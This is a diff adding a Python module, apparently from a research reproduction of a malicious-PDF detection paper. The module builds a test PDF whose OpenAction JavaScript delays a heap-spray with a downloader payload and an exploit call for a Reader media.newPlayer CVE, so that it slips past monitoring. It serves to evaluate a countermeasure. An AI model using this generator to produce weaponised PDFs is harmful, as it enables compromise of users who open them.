@@ -1,0 +1,41 @@
+"""Delayed-execution attack (§IV-B).
+
+The malicious code is scheduled through ``app.setTimeOut()`` /
+``app.setInterval()`` so it runs after the opening script's monitored
+context has closed.  The countermeasure instruments both methods: the
+generated wrapper prepends/appends enter/leave messages to the
+scheduled code string, so the delayed execution is monitored too.
+"""
+
+from __future__ import annotations
+
+import random
+
+from repro.corpus import js_snippets as js
+from repro.pdf.builder import DocumentBuilder
+from repro.reader.exploits import CVE
+from repro.reader.payload import Payload
+
+
+def delayed_attack_document(
+    seed: int = 77,
+    spray_mb: int = 150,
+    delay_ms: int = 3000,
+    use_interval: bool = False,
+) -> bytes:
+    """Opening script only schedules; the bomb goes off ``delay_ms`` later."""
+    rng = random.Random(seed)
+    bomb = js.spray_script(
+        spray_mb,
+        Payload.downloader(),
+        rng=rng,
+        exploit_call=js.exploit_call_for(CVE.MEDIA_NEW_PLAYER, rng),
+    )
+    bomb_literal = '"' + js.escape_for_js(bomb) + '"'
+    scheduler = "app.setInterval" if use_interval else "app.setTimeOut"
+    stage1 = f"var t = {scheduler}({bomb_literal}, {delay_ms});"
+
+    builder = DocumentBuilder()
+    builder.add_page("delayed")
+    builder.add_javascript(stage1, trigger="OpenAction")
+    return builder.to_bytes()
